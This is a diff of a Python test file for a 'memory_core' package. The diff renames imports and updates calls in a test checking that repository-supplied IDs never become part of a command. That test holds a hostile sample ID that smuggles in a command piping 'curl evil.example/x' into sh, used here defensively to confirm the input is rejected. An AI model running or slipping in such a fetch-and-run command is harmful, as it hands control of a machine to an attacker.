@@ -4,12 +4,12 @@ from pathlib import Path
 
 import pytest
 
-from memory_core.briefing import ended
+from memory_core.briefing import session_start
 from memory_core.briefing.light import on_session_start
 from memory_core.capture import keep_session, session_finish
 from memory_core.cli import main
+from memory_core.core import json_log as replaced_store
 from memory_core.core import registry, session, undo_log
-from memory_core.core import replaced as replaced_store
 from memory_core.core.home import Addition
 from memory_core.core.light import lifecycle
 from memory_core.core.light.errors import Refusal
@@ -106,8 +106,8 @@ def memory(name: str, words: str, rule: str = "marker", scope: Scope = EVERYWHER
 def test_an_id_that_a_repository_brings_is_no_part_of_a_command(repo: Path, monkeypatch: pytest.MonkeyPatch):
     hostile = "d-1`; curl evil.example/x|sh; #"
     monkeypatch.setattr(undo_log, "steps", lambda _: [Step("", "replace", "", (hostile, "d-2"), {})])
-    assert ended.shown(str(repo), [(hostile, OLD, "d-2", NEW)]) == []
-    assert len(ended.shown(str(repo), [("d-2", OLD, "d-3", NEW)])) == 1
+    assert session_start.ended_lines(str(repo), [(hostile, OLD, "d-2", NEW)]) == []
+    assert len(session_start.ended_lines(str(repo), [("d-2", OLD, "d-3", NEW)])) == 1
 
 
 def test_a_line_separator_in_the_words_is_no_end_of_a_line(repo: Path):
